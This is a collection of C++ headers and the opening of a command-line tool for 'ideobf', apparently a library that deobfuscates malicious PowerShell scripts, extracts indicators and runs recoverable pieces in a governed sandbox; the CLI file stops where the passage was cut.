#pragma once

/// \file ideobf/client.h
/// Blocking client for the `ideobf serve` daemon: connects over the Unix
/// domain socket (or TCP loopback), speaks the newline-delimited JSON
/// protocol (docs/SERVER.md), and maps wire responses back onto the same
/// `ideobf::Response` the in-process API returns. Used by the CLI's
/// `serve --self-check`, the server integration tests, the bench harness'
/// warm-server rows, and the examples — one client, one protocol.
///
/// Part of the stable `include/ideobf/` facade.

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "ideobf/api.h"

namespace ideobf {

/// Server-side span breakdown of one traced request (`"trace": true`): how
/// the request's wall time splits between admission (shared-cache lookup),
/// queue wait, and the engine's pipeline phases. The per-phase self times
/// partition the engine wall time (accounted == engine within clock
/// granularity — the same invariant bench_pipeline gates at 5%).
struct ServerTrace {
  bool present = false;         ///< the reply carried a server_trace object
  int worker = -1;              ///< fleet worker index that served it
  double queue_seconds = 0.0;   ///< admission -> worker-slot dispatch
  double cache_seconds = 0.0;   ///< shared-cache lookup at admission
  double engine_seconds = 0.0;  ///< the engine Pipeline span's wall time
  double accounted_seconds = 0.0;  ///< sum of per-phase self times
  struct PhaseBreakdown {
    std::string phase;          ///< stable phase name ("parse", "recovery"...)
    std::uint64_t count = 0;
    double self_seconds = 0.0;
    double total_seconds = 0.0;
  };
  std::vector<PhaseBreakdown> phases;
};

/// One wire-level reply. `status` is the protocol-level verdict — a
/// superset of the pipeline taxonomy, because some conditions ("overloaded"
/// backpressure, "invalid" requests, "shutting-down") never reach the
/// pipeline. For pipeline statuses (ok / degraded / failed) `response`
/// carries the mapped result and report fields.
struct ServeReply {
  std::string status;  ///< ok|degraded|failed|overloaded|invalid|shutting-down
  Response response;
  /// True when the reply was served from the fleet's shared response cache
  /// (the line carried "cached":true) instead of a fresh pipeline run.
  bool cached = false;
  /// For "overloaded" refusals from admission control: the earliest useful
  /// retry time the server suggested. 0 when the server named none.
  std::uint64_t retry_after_ms = 0;
  /// Server-assigned id of this request (`w<worker>-<seq>`), echoed on every
  /// reply to a deobfuscate request — the join key across structured logs,
  /// flight-recorder dumps, and traces. Empty on service-op replies and on
  /// replies from servers that predate request ids.
  std::string request_id;
  /// Queue/cache/engine breakdown; present only for `"trace": true`.
  ServerTrace server_trace;
};

/// The `metrics` op's reply beyond the exposition text itself.
struct MetricsReply {
  std::string exposition;
  /// Fleet worker index of the responding worker (-1 when the server did
  /// not say; 0 for a standalone daemon).
  int worker = -1;
  /// For `scope: "fleet"`: how many workers' snapshots were merged into the
  /// exposition. 0 for a plain process-scope scrape.
  int fleet_workers = 0;
};

class ServeClient {
 public:
  /// Connects to a Unix-domain-socket server. Throws std::runtime_error on
  /// connection failure.
  static ServeClient connect_unix(const std::string& socket_path);
  /// Connects to a TCP-loopback server (127.0.0.1:port).
  static ServeClient connect_tcp(std::uint16_t port);

  ~ServeClient();
  ServeClient(ServeClient&&) noexcept;
  ServeClient& operator=(ServeClient&&) noexcept;
  ServeClient(const ServeClient&) = delete;
  ServeClient& operator=(const ServeClient&) = delete;

  /// One deobfuscation round trip. Throws std::runtime_error on transport
  /// errors (disconnect, malformed server reply); service-level refusals
  /// (overloaded, invalid) come back as ServeReply::status.
  [[nodiscard]] ServeReply call(const Request& request);

  /// Fleet-aware round trip: a transport error mid-call (a crashed worker
  /// hangs up the connection) reconnects to the same address and resends,
  /// up to `attempts` tries total. When every attempt dies on transport the
  /// reply is still terminal: a synthesized "failed" ServeReply carrying
  /// FailureKind::WorkerCrash with the input passed through — callers always
  /// get an answer, never an exception, for a worker death. Note a resend
  /// re-executes the request (the fleet quarantines repeat killers, so a
  /// script that keeps crashing workers converges to a `quarantined` reply
  /// instead of endless re-execution).
  [[nodiscard]] ServeReply call_retrying(const Request& request,
                                         int attempts = 3);

  /// Readiness probe (`op: "ready"`): true when the server is accepting and
  /// not draining. False on a "ready":false reply; throws on transport
  /// errors like call().
  [[nodiscard]] bool ready();

  /// Liveness probe (`op: "live"`).
  [[nodiscard]] bool live();

  /// The server's Prometheus exposition (`op: "metrics"`).
  [[nodiscard]] std::string metrics();

  /// Attributable scrape: the exposition plus the responding worker's id.
  /// With `fleet_scope`, the responding worker merges every sibling's
  /// snapshot from the fleet state dir (`worker="N"` labels on per-worker
  /// series, fleet-wide sums without) and reports how many it merged.
  [[nodiscard]] MetricsReply metrics_reply(bool fleet_scope = false);

  /// Dumps the responding worker's flight recorder (`op: "debug"`): the raw
  /// JSON reply line, carrying `worker` and a `flight` array of recent
  /// request summaries (newest first).
  [[nodiscard]] std::string debug_dump();

  /// The server's Chrome trace JSON so far (`op: "trace"`), when the daemon
  /// was started with `--trace-out`. Empty when no recorder is armed.
  [[nodiscard]] std::string trace_json();

  /// Liveness round trip (`op: "ping"`).
  [[nodiscard]] bool ping();

  /// Asks the server to drain gracefully (`op: "shutdown"`): stop
  /// accepting, serve everything in flight, then exit.
  void shutdown_server();

  /// Sends one raw protocol line (newline appended if missing) and returns
  /// the raw response line — the integration tests' escape hatch for
  /// malformed-input cases.
  [[nodiscard]] std::string raw_call(const std::string& line);

 private:
  struct Impl;
  explicit ServeClient(std::unique_ptr<Impl> impl);
  std::unique_ptr<Impl> impl_;
};

}  // namespace ideobf
