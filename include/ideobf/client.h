#pragma once

/// \file ideobf/client.h
/// Blocking client for the `ideobf serve` daemon: connects over the Unix
/// domain socket (or TCP loopback), speaks the newline-delimited JSON
/// protocol (docs/SERVER.md), and maps wire responses back onto the same
/// `ideobf::Response` the in-process API returns. Used by the CLI's
/// `serve --self-check`, the server integration tests, the bench harness'
/// warm-server rows, and the examples — one client, one protocol.
///
/// Part of the stable `include/ideobf/` facade.

#include <cstdint>
#include <memory>
#include <string>

#include "ideobf/api.h"

namespace ideobf {

/// One wire-level reply. `status` is the protocol-level verdict — a
/// superset of the pipeline taxonomy, because some conditions ("overloaded"
/// backpressure, "invalid" requests, "shutting-down") never reach the
/// pipeline. For pipeline statuses (ok / degraded / failed) `response`
/// carries the mapped result and report fields.
struct ServeReply {
  std::string status;  ///< ok|degraded|failed|overloaded|invalid|shutting-down
  Response response;
};

class ServeClient {
 public:
  /// Connects to a Unix-domain-socket server. Throws std::runtime_error on
  /// connection failure.
  static ServeClient connect_unix(const std::string& socket_path);
  /// Connects to a TCP-loopback server (127.0.0.1:port).
  static ServeClient connect_tcp(std::uint16_t port);

  ~ServeClient();
  ServeClient(ServeClient&&) noexcept;
  ServeClient& operator=(ServeClient&&) noexcept;
  ServeClient(const ServeClient&) = delete;
  ServeClient& operator=(const ServeClient&) = delete;

  /// One deobfuscation round trip. Throws std::runtime_error on transport
  /// errors (disconnect, malformed server reply); service-level refusals
  /// (overloaded, invalid) come back as ServeReply::status.
  [[nodiscard]] ServeReply call(const Request& request);

  /// The server's Prometheus exposition (`op: "metrics"`).
  [[nodiscard]] std::string metrics();

  /// Liveness round trip (`op: "ping"`).
  [[nodiscard]] bool ping();

  /// Asks the server to drain gracefully (`op: "shutdown"`): stop
  /// accepting, serve everything in flight, then exit.
  void shutdown_server();

  /// Sends one raw protocol line (newline appended if missing) and returns
  /// the raw response line — the integration tests' escape hatch for
  /// malformed-input cases.
  [[nodiscard]] std::string raw_call(const std::string& line);

 private:
  struct Impl;
  explicit ServeClient(std::unique_ptr<Impl> impl);
  std::unique_ptr<Impl> impl_;
};

}  // namespace ideobf
