#pragma once

/// \file ideobf/options.h
/// The one options struct of the ideobf API. Historically the library grew
/// three divergent knob sets — `DeobfuscationOptions` (pipeline),
/// `GovernorOptions` (execution envelope) and `BatchOptions` (batch
/// execution) — plus ad-hoc bench flags. They are collapsed here into a
/// single `ideobf::Options` with nested `Limits` / `Telemetry` / `Recovery`
/// sections, consumed identically by the one-shot path, the batch command,
/// `ideobf serve`, and the bench harness. The old struct names survive for
/// one release as thin deprecated aliases (migration table: docs/API.md).
///
/// Part of the stable `include/ideobf/` facade: includes only other facade
/// headers and the standard library; internal engine types appear only as
/// forward declarations.

#include <cstddef>
#include <memory>
#include <string>
#include <vector>

#include "ideobf/failure.h"

namespace ps {
class ParseCache;  // internal; see psast/parse_cache.h
}  // namespace ps

namespace ideobf {

class FaultInjector;  // internal test hook; see core/fault.h

struct Options {
  // --- Pipeline shape -----------------------------------------------------
  // Which phases run. The defaults are the full paper pipeline (Fig 2).
  bool token_pass = true;
  bool ast_recovery = true;
  bool multilayer = true;
  bool rename = true;
  bool reformat = true;
  /// Parse-once pipeline: share one parse of every intermediate text across
  /// the per-step syntax checks, the phases' AST inputs, and the multilayer
  /// recursion. Disabling re-parses at every step; output and report are
  /// identical either way.
  bool parse_cache = true;
  /// Concurrent executors for batch/server execution (pool slots);
  /// 0 picks the hardware concurrency. Ignored by one-shot calls.
  unsigned threads = 0;

  // --- Limits: the execution governor's envelope + per-piece caps --------
  /// The recovery phase executes attacker-controlled pieces, so hostile
  /// inputs (deliberate stalls, allocation bombs) are the normal input
  /// distribution; the governor bounds each call and — instead of failing
  /// outright — walks a degradation ladder of progressively safer
  /// configurations:
  ///
  ///   rung 0: full pipeline, full deadline
  ///   rung 1: tightened recovery (fewer layers, far smaller per-piece step
  ///           and size budgets), deadline/2
  ///   rung 2: static passes only (token pass + rename + reformat; nothing
  ///           is executed), deadline/4
  ///   rung 3: passthrough (input returned unchanged)
  ///
  /// Worst case a governed call spends ~1.75x its deadline before serving
  /// passthrough. Every abort is classified into a FailureKind.
  struct Limits {
    /// Wall-clock deadline per call at full strength; 0 disables.
    double deadline_seconds = 0.0;
    /// Cumulative interpreter allocation budget per attempt; 0 disables.
    std::size_t memory_budget_bytes = 0;
    /// Walk the ladder on failure. When false a failed attempt immediately
    /// serves passthrough (rung 3).
    bool degrade = true;
    /// External cancellation (checked at every budget checkpoint). Inert by
    /// default; a cancelled call serves passthrough without retries.
    CancellationToken cancel{};
    /// Fixed-point iteration bound for multi-layer obfuscation.
    int max_layers = 8;
    /// Interpreter budget per recoverable piece.
    std::size_t max_steps_per_piece = 200000;
    /// Largest piece text the recovery phase will execute.
    std::size_t max_piece_size = 4u << 20;
    /// Batch/server backstop: a watchdog hard-cancels an item still running
    /// past watchdog_factor x its deadline, in case it wedges between
    /// budget checkpoints.
    double watchdog_factor = 2.0;

    /// Whether a governor envelope is configured; calls with an inactive
    /// envelope take the exact ungoverned code path (byte-identical output,
    /// no budget checks).
    [[nodiscard]] bool active() const {
      return deadline_seconds > 0.0 || memory_budget_bytes > 0 ||
             cancel.valid();
    }
  } limits;

  // --- Telemetry: what the run reports beyond its output ------------------
  struct Telemetry {
    /// Collect a structured transformation trace into the report.
    bool collect_trace = false;
    /// Trace-event collection cap per run; overflow sets
    /// DeobfuscationReport::trace_truncated instead of growing unboundedly.
    std::size_t max_trace_events = 10000;
  } telemetry;

  // --- Recovery: how attacker-controlled pieces are executed --------------
  struct Recovery {
    /// Extension beyond the paper (section V-C): trace user-defined decoder
    /// functions so function-wrapped recovery chains can be executed.
    bool trace_functions = false;
    /// Memoize recovered pieces (piece text + traced-variable context
    /// fingerprint -> recovered literal) so a piece repeated across
    /// occurrences, layers, or fixed-point passes executes once. Output and
    /// report are identical either way.
    bool memo = true;
    /// Share one engine-global RecoveryMemo across every call, batch slot,
    /// and server session of the engine. The memo is thread-safe and
    /// content-addressed — keys fingerprint the full evaluation context,
    /// limits included — so a piece recovered anywhere is a hit everywhere
    /// and sharing never changes output. Disabling reverts to one memo per
    /// run (per server session for session calls).
    bool share_memo = true;
    /// Additional lowercase command names to refuse executing.
    std::vector<std::string> extra_blocklist;
  } recovery;

  // --- Shared infrastructure ----------------------------------------------
  /// Optional externally shared parse cache (e.g. one cache across a whole
  /// batch or several engines). When null and `parse_cache` is true, the
  /// engine creates a private one.
  std::shared_ptr<ps::ParseCache> shared_parse_cache;
  /// Optional fault injector (compiled in always, enabled by setting this).
  /// Non-owning; must outlive the engine. With no armed fault the output is
  /// byte-identical to running without an injector.
  FaultInjector* fault_injector = nullptr;
};

}  // namespace ideobf
