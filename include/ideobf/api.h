#pragma once

/// \file ideobf/api.h
/// The unified request/response API of Invoke-Deobfuscation. One
/// `Request -> Response` pair describes a deobfuscation everywhere: the
/// one-shot CLI, the batch command, the `ideobf serve` daemon (whose NDJSON
/// wire schema is a 1:1 rendering of these structs — docs/SERVER.md), and
/// the bench harness. The server is not a second code path; it is the first
/// consumer of this API.
///
/// Part of the stable `include/ideobf/` facade: includes only other facade
/// headers and the standard library. Engine internals (parser, arenas,
/// interpreter) never leak through it.

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "ideobf/options.h"
#include "ideobf/report.h"

namespace ideobf {

/// One deobfuscation to perform.
struct Request {
  /// The source text to deobfuscate.
  std::string source;
  /// Which language front-end runs this request: a registered front-end
  /// name ("powershell", "javascript"), "" (the default language,
  /// PowerShell), or "auto" (sniffed per source; deterministic for given
  /// source bytes). Unknown names are refused at the serve wire and served
  /// as classified passthrough by the embedded engine.
  std::string language;
  /// Pipeline options for this request. Absent means "the engine's
  /// configured options" (for the server: the options `ideobf serve` was
  /// started with).
  std::optional<Options> options;
  /// Convenience deadline override in milliseconds; when nonzero it
  /// replaces the effective options' limits.deadline_seconds.
  std::uint64_t deadline_ms = 0;
  /// Convenience trace switch; when true it sets telemetry.collect_trace on
  /// the effective options (and, over the serve wire, additionally returns
  /// the `server_trace` span breakdown).
  bool trace = false;
  /// Serve-wire-only lightweight opt-in: the reply carries the
  /// `server_trace` object (queue/cache/engine span breakdown) without the
  /// per-pass change-trace events `trace` implies. Ignored outside serve.
  bool server_trace = false;
  /// Opaque client correlation id, echoed verbatim on the Response (and on
  /// the server's NDJSON response line).
  std::string id;
};

/// What a deobfuscation produced.
struct Response {
  /// The deobfuscated text. Deobfuscation is total by contract: on failure
  /// or passthrough this is the input unchanged, never empty.
  std::string result;
  /// Full per-call report: phase stats, trace, profile, failure taxonomy.
  DeobfuscationReport report;
  /// Mirrors report.failure / report.failure_detail for callers that do not
  /// want to walk the report.
  FailureKind failure = FailureKind::None;
  std::string failure_detail;
  /// False when no real pipeline output was served: the call degraded to
  /// passthrough (rung 3) or an unexpected exception was sealed. Degraded-
  /// but-served rungs (1, 2) keep ok == true with a non-None failure.
  bool ok = true;
  /// Wall-clock seconds this request spent in the engine.
  double seconds = 0.0;
  /// The concrete front-end language that served this request: the
  /// request's language with "" defaulted and "auto" resolved by sniffing.
  /// Unknown requested names echo verbatim (alongside the Internal
  /// failure).
  std::string language;
  /// Echo of Request::id.
  std::string id;
};

/// The engine behind every entry point: owns the configured options and the
/// shared parse cache, and serves Requests. Const-callable from any number
/// of threads; `handle` seals exceptions (a hostile input degrades its own
/// response, it never throws).
class Engine {
 public:
  explicit Engine(Options options = {});
  ~Engine();
  Engine(Engine&&) noexcept;
  Engine& operator=(Engine&&) noexcept;
  Engine(const Engine&) = delete;
  Engine& operator=(const Engine&) = delete;

  /// One-shot: deobfuscate one request (thread-safe).
  [[nodiscard]] Response handle(const Request& request) const;

  /// Like handle(request), but `limits` wholesale replaces the execution
  /// envelope the request would otherwise run under (deadline, budget,
  /// degradation, cancellation token). This is how the server threads a
  /// per-request deadline and a client-disconnect cancellation token into
  /// the governor without re-configuring the pipeline.
  [[nodiscard]] Response handle(const Request& request,
                                const Options::Limits& limits) const;

  /// Batch: deobfuscate every request on the process-lifetime worker pool,
  /// preserving order. Per-request deadlines/options are honored item by
  /// item; concurrency comes from options().threads.
  [[nodiscard]] std::vector<Response> handle_batch(
      const std::vector<Request>& requests) const;

  [[nodiscard]] const Options& options() const;

  /// A warm per-thread session: shares the engine's parse cache and keeps a
  /// private recovery memo across requests, so a decoder fragment repeated
  /// across a stream of requests is sandbox-executed once. This is what a
  /// server worker slot holds. Not thread-safe (one session per thread);
  /// safe to outlive the Engine it came from.
  class Session {
   public:
    ~Session();
    Session(Session&&) noexcept;
    Session& operator=(Session&&) noexcept;
    Session(const Session&) = delete;
    Session& operator=(const Session&) = delete;

    [[nodiscard]] Response handle(const Request& request);

    /// Envelope override, same contract as Engine::handle(request, limits).
    [[nodiscard]] Response handle(const Request& request,
                                  const Options::Limits& limits);

   private:
    friend class Engine;
    struct Impl;
    explicit Session(std::unique_ptr<Impl> impl);
    std::unique_ptr<Impl> impl_;
  };
  [[nodiscard]] Session session() const;

 private:
  struct Impl;
  std::shared_ptr<const Impl> impl_;
};

}  // namespace ideobf
