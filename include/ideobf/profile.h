#pragma once

/// \file ideobf/profile.h
/// Public per-item phase breakdown: which pipeline stage the time went to.
/// Part of the stable `include/ideobf/` facade (standard library includes
/// only); `DeobfuscationReport::profile` and `BatchReport::profile` carry
/// this struct, and the telemetry subsystem's span machinery (internal,
/// src/telemetry/) fills it in.

#include <cstddef>
#include <cstdint>
#include <string_view>

namespace ideobf::telemetry {

/// Every instrumented pipeline stage. Kept dense so per-phase state is a
/// plain array; names (phase_name) are the `phase="..."` label values.
enum class Phase : std::uint8_t {
  Lex,              ///< tokenization (inside a parse)
  Parse,            ///< one AST construction (cache misses only)
  TokenPass,        ///< token-based normalization pass
  Recovery,         ///< one AST recovery pass over a text
  VariableTrace,    ///< tracing one assignment into the symbol table
  PieceExecution,   ///< sandbox-executing one recoverable piece / env probe
  MultilayerDecode, ///< multilayer scan or one payload decode+recurse
  Rename,           ///< identifier renaming pass
  Reformat,         ///< reformatting pass
  SandboxRun,       ///< Sandbox::run of a whole script
  Pipeline,         ///< one InvokeDeobfuscator::deobfuscate call
  QueueWait,        ///< serve mode: admitted request waiting for a worker slot
};
inline constexpr std::size_t kPhaseCount = 12;

/// Stable lowercase name ("lex", "parse", ..., "pipeline").
std::string_view phase_name(Phase phase);

struct PhaseStat {
  std::uint64_t count = 0;    ///< spans closed
  std::uint64_t self_ns = 0;  ///< wall time minus nested spans
  std::uint64_t total_ns = 0; ///< wall time including nested spans
};

/// Per-item phase breakdown. Self times partition the item's wall time:
/// summing `self_ns` over all phases (Pipeline included — its self time is
/// the uninstrumented glue between stages) equals the Pipeline span's
/// `total_ns` up to clock granularity.
struct PipelineProfile {
  PhaseStat phases[kPhaseCount] = {};

  [[nodiscard]] const PhaseStat& stat(Phase phase) const {
    return phases[static_cast<std::size_t>(phase)];
  }
  [[nodiscard]] double self_seconds(Phase phase) const {
    return static_cast<double>(stat(phase).self_ns) / 1e9;
  }
  [[nodiscard]] double total_seconds(Phase phase) const {
    return static_cast<double>(stat(phase).total_ns) / 1e9;
  }
  /// Sum of self time across every phase — the reconstructed wall time.
  [[nodiscard]] double accounted_seconds() const;
  [[nodiscard]] bool empty() const;
  void merge(const PipelineProfile& other);
};

}  // namespace ideobf::telemetry
