#pragma once

/// \file ideobf/report.h
/// Public result types of the ideobf API: the per-phase statistics, the
/// structured transformation trace, and `DeobfuscationReport` — what every
/// deobfuscation returns alongside its output text, whether it ran through
/// the one-shot call, a batch, or the server. Part of the stable
/// `include/ideobf/` facade: includes only other facade headers and the
/// standard library.

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "ideobf/failure.h"
#include "ideobf/profile.h"

namespace ideobf {

struct TokenPassStats {
  int ticks_removed = 0;
  int aliases_expanded = 0;
  int case_normalized = 0;
};

struct RecoveryStats {
  int pieces_recovered = 0;       ///< recoverable nodes replaced by literals
  int variables_traced = 0;       ///< assignments recorded in the symbol table
  int variables_substituted = 0;  ///< variable uses replaced by their value
  int pieces_failed = 0;          ///< piece/assignment executions that errored
  int memo_hits = 0;              ///< piece executions answered by the memo
  int memo_misses = 0;            ///< memo lookups that had to execute
  int pieces_folded = 0;          ///< memo misses folded statically (pure chunks)
  int bytecode_execs = 0;         ///< memo misses run as compiled bytecode
  int treewalk_fallbacks = 0;     ///< memo misses tree-walked (uncompilable)
  /// Most severe per-piece failure seen (failure_severity order); the
  /// governor surfaces it as the item classification when nothing worse
  /// aborted the run.
  FailureKind worst_failure = FailureKind::None;
};

struct MultilayerStats {
  int layers_unwrapped = 0;
};

struct RenameStats {
  bool renamed = false;
  int variables_renamed = 0;
  int functions_renamed = 0;
};

/// One auditable change the deobfuscator made (token normalized, piece
/// recovered, variable substituted, layer unwrapped, identifier renamed) —
/// the explainability counterpart to the paper's layer-by-layer
/// screenshots (Fig 7). Collected when Options::Telemetry::collect_trace
/// (or Request::trace) is set.
struct TraceEvent {
  enum class Kind {
    TokenNormalized,      ///< token pass: ticks/case/alias fixed
    PieceRecovered,       ///< recoverable node executed and replaced
    VariableTraced,       ///< assignment recorded in the symbol table
    VariableSubstituted,  ///< variable use replaced by its value
    LayerUnwrapped,       ///< iex / -EncodedCommand payload inlined
    Renamed,              ///< randomized identifier renamed
  };

  Kind kind;
  /// Byte offset in the text version the pass was operating on (passes
  /// rewrite the script, so offsets are per-pass, not global).
  std::size_t offset = 0;
  std::string before;
  std::string after;
  int pass = 0;  ///< fixed-point iteration index
};

std::string_view to_string(TraceEvent::Kind kind);

/// Renders a trace as readable lines ("[pass 0] recovered @12: '...' -> ...").
/// `dropped` (events discarded by a capped collector) appends a trailing
/// truncation note so a clipped trace is never mistaken for a complete one.
std::string render_trace(const std::vector<TraceEvent>& trace,
                         std::size_t max_payload = 60,
                         std::size_t dropped = 0);

struct DeobfuscationReport {
  TokenPassStats token;
  std::vector<TraceEvent> trace;  ///< filled when trace collection is on
  bool trace_truncated = false;   ///< trace hit the configured event cap
  std::size_t trace_dropped = 0;  ///< events discarded past the cap
  RecoveryStats recovery;
  MultilayerStats multilayer;
  RenameStats rename;
  /// Per-phase time breakdown of this call (counts + self/total wall time).
  /// All-zero unless telemetry was enabled.
  telemetry::PipelineProfile profile;
  int passes = 0;  ///< full pipeline iterations until the fixed point

  /// Failure classification for the call: the kind that aborted the
  /// full-strength attempt (when a lower rung served), or the most severe
  /// per-piece failure, or ParseError for invalid input, or None.
  FailureKind failure = FailureKind::None;
  std::string failure_detail;  ///< human-readable message for `failure`
  /// Which ladder rung produced the served output (0 = full pipeline,
  /// 3 = passthrough). Always 0 for ungoverned calls.
  int degradation_rung = 0;
  int attempts = 1;  ///< pipeline attempts made (1 + retries)
};

}  // namespace ideobf
