#pragma once

/// \file ideobf/failure.h
/// Public failure taxonomy and cancellation primitive of the ideobf API.
///
/// This header is part of the stable `include/ideobf/` facade: it includes
/// nothing but the standard library, and every consumer of the library —
/// the one-shot CLI, `deobfuscate_batch`, `ideobf serve`, and the bench
/// harness — classifies an aborted or degraded deobfuscation with exactly
/// this enum. The engine-internal `ps::` names are aliases of these types
/// (see psvalue/budget.h), so a failure is represented identically wherever
/// it surfaces: DeobfuscationReport, BatchItem, the server's NDJSON
/// responses, and the Prometheus `ideobf_governor_failure_total` labels.

#include <atomic>
#include <memory>
#include <string_view>

namespace ideobf {

/// Structured classification of everything that can end or degrade a
/// deobfuscation.
enum class FailureKind {
  None,            ///< no failure
  Timeout,         ///< wall-clock deadline exceeded
  StepLimit,       ///< interpreter step cap exceeded
  DepthLimit,      ///< invoke/recursion depth cap exceeded
  MemoryBudget,    ///< single-value size cap or cumulative allocation budget
  ParseError,      ///< input (or intermediate) text does not parse
  BlockedCommand,  ///< execution blocklist refused a command
  EvalError,       ///< runtime evaluation failure
  Cancelled,       ///< external cancellation token fired
  Internal,        ///< anything else, including non-std exceptions
  WorkerCrash,     ///< a fleet worker process died executing the script
  Quarantined,     ///< script hash quarantined after repeated worker crashes
};

/// Stable lowercase-kebab name for reports and JSON ("timeout",
/// "step-limit", ...).
const char* to_string(FailureKind kind);

/// Inverse of to_string: parses a stable kebab name back into the taxonomy
/// (how the serve client rebuilds a Response from the wire). Unknown names
/// map to FailureKind::Internal.
FailureKind failure_from_string(std::string_view name);

/// Severity order for picking the dominant failure of a run: governor-level
/// kinds (Cancelled, Timeout, MemoryBudget) outrank per-piece limit kinds,
/// which outrank expected per-piece outcomes (BlockedCommand, EvalError).
/// Internal ranks highest; None is 0.
int failure_severity(FailureKind kind);

/// The more severe of two failures (first wins ties).
FailureKind worse_failure(FailureKind a, FailureKind b);

/// The one canonical human-readable detail for FailureKind::Cancelled.
/// Batch watchdog cancels, external batch-wide cancellation, and a server
/// client disconnecting mid-request all funnel through the same
/// cancellation token and must surface this same string — the failure
/// taxonomy test asserts it, so a new cancel path cannot quietly introduce
/// a divergent spelling.
inline constexpr std::string_view kCancelledDetail = "execution cancelled";

/// A copyable handle to a shared cancellation flag. Default-constructed
/// tokens are inert (never cancelled, cancel requests dropped); create a
/// live one with `CancellationToken::make()`. Cancellation is cooperative:
/// the running engine observes it at its next budget checkpoint.
class CancellationToken {
 public:
  CancellationToken() = default;  ///< inert: valid() == false
  static CancellationToken make();

  [[nodiscard]] bool valid() const { return state_ != nullptr; }
  void request_cancel() const {
    if (state_ != nullptr) state_->store(true, std::memory_order_relaxed);
  }
  [[nodiscard]] bool cancelled() const {
    return state_ != nullptr && state_->load(std::memory_order_relaxed);
  }

 private:
  std::shared_ptr<std::atomic<bool>> state_;
};

}  // namespace ideobf
