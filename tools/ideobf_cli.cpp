// ideobf — command-line front end over the library, mirroring the usage of
// the paper's released PowerShell module.
//
//   ideobf deobf [file|-]            deobfuscate a script (stdin with -)
//   ideobf score [file|-]            obfuscation score + detected techniques
//   ideobf iocs [file|-]             deobfuscate then extract key information
//   ideobf behavior [file|-]         run in the sandbox, print side effects
//   ideobf obfuscate <technique> [file|-]   apply one Table II technique
//   ideobf corpus <n> <dir>          write n generated samples to a directory
//   ideobf explain [file|-]          deobfuscate and print the change trace
//   ideobf ast [file|-]              dump the PowerShell AST
//   ideobf techniques                list technique names and levels

#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "analysis/json_writer.h"
#include "analysis/keyinfo.h"
#include "analysis/scorer.h"
#include "core/deobfuscator.h"
#include "core/trace.h"
#include "corpus/corpus.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psast/dump.h"
#include "sandbox/sandbox.h"

namespace {

std::string read_input(const std::string& path) {
  if (path == "-") {
    std::ostringstream ss;
    ss << std::cin.rdbuf();
    return ss.str();
  }
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    std::cerr << "ideobf: cannot open " << path << "\n";
    std::exit(2);
  }
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

int usage() {
  std::cerr
      << "usage: ideobf <deobf|explain|score|iocs|behavior|obfuscate|corpus|ast|techniques>"
         " [args]\n";
  return 2;
}

int cmd_deobf(const std::string& path, bool trace_functions,
              double deadline_seconds) {
  ideobf::DeobfuscationOptions opts;
  opts.trace_functions = trace_functions;
  opts.governor.deadline_seconds = deadline_seconds;
  ideobf::InvokeDeobfuscator deobf(opts);
  ideobf::DeobfuscationReport report;
  std::cout << deobf.deobfuscate(read_input(path), report);
  std::cerr << "# ticks=" << report.token.ticks_removed
            << " aliases=" << report.token.aliases_expanded
            << " case=" << report.token.case_normalized
            << " pieces=" << report.recovery.pieces_recovered
            << " vars=" << report.recovery.variables_traced
            << " layers=" << report.multilayer.layers_unwrapped
            << " failure=" << ps::to_string(report.failure)
            << " rung=" << report.degradation_rung << "\n";
  return 0;
}

int cmd_score(const std::string& path, bool as_json) {
  const std::string script = read_input(path);
  const ideobf::ObfuscationFindings findings = ideobf::detect_obfuscation(script);
  if (as_json) {
    ideobf::JsonWriter w;
    w.begin_object();
    w.field("score", findings.score());
    w.begin_array("techniques");
    for (ideobf::Technique t : findings.techniques) {
      w.begin_object();
      w.field("name", std::string(to_string(t)));
      w.field("level", ideobf::technique_level(t));
      w.end_object();
    }
    w.end_array();
    w.end_object();
    std::cout << w.str() << "\n";
    return 0;
  }
  std::cout << "score: " << findings.score() << "\n";
  for (ideobf::Technique t : findings.techniques) {
    std::cout << "  L" << ideobf::technique_level(t) << " " << to_string(t)
              << "\n";
  }
  return 0;
}

int cmd_iocs(const std::string& path, bool as_json) {
  ideobf::InvokeDeobfuscator deobf;
  const ideobf::KeyInfo info =
      ideobf::extract_key_info(deobf.deobfuscate(read_input(path)));
  if (as_json) {
    ideobf::JsonWriter w;
    w.begin_object();
    w.begin_array("urls");
    for (const auto& u : info.urls) w.value(u);
    w.end_array();
    w.begin_array("ips");
    for (const auto& i : info.ips) w.value(i);
    w.end_array();
    w.begin_array("ps1_files");
    for (const auto& p : info.ps1_files) w.value(p);
    w.end_array();
    w.field("powershell_invocations", info.powershell_commands);
    w.end_object();
    std::cout << w.str() << "\n";
    return 0;
  }
  for (const auto& u : info.urls) std::cout << "url\t" << u << "\n";
  for (const auto& i : info.ips) std::cout << "ip\t" << i << "\n";
  for (const auto& p : info.ps1_files) std::cout << "ps1\t" << p << "\n";
  std::cout << "powershell-invocations\t" << info.powershell_commands << "\n";
  return 0;
}

int cmd_behavior(const std::string& path) {
  ideobf::Sandbox sandbox;
  const ideobf::BehaviorProfile profile = sandbox.run(read_input(path));
  std::cout << "executed: " << (profile.executed_ok ? "ok" : "error")
            << (profile.error.empty() ? "" : " (" + profile.error + ")") << "\n";
  for (const auto& n : profile.network) std::cout << "net\t" << n << "\n";
  for (const auto& p : profile.processes) std::cout << "proc\t" << p << "\n";
  for (const auto& f : profile.files) std::cout << "file\t" << f << "\n";
  for (const auto& h : profile.host_output) std::cout << "host\t" << h << "\n";
  std::cout << "simulated-seconds\t" << profile.simulated_seconds << "\n";
  return 0;
}

int cmd_obfuscate(const std::string& name, const std::string& path) {
  for (ideobf::Technique t : ideobf::all_techniques()) {
    if (ps::iequals(to_string(t), name)) {
      ideobf::Obfuscator obf(std::random_device{}());
      std::cout << obf.apply(t, read_input(path));
      return 0;
    }
  }
  std::cerr << "ideobf: unknown technique '" << name
            << "' (see `ideobf techniques`)\n";
  return 2;
}

int cmd_corpus(int n, const std::string& dir) {
  ideobf::CorpusGenerator gen(2021);
  for (int i = 0; i < n; ++i) {
    const ideobf::Sample s = gen.generate();
    const std::string base = dir + "/sample_" + std::to_string(i);
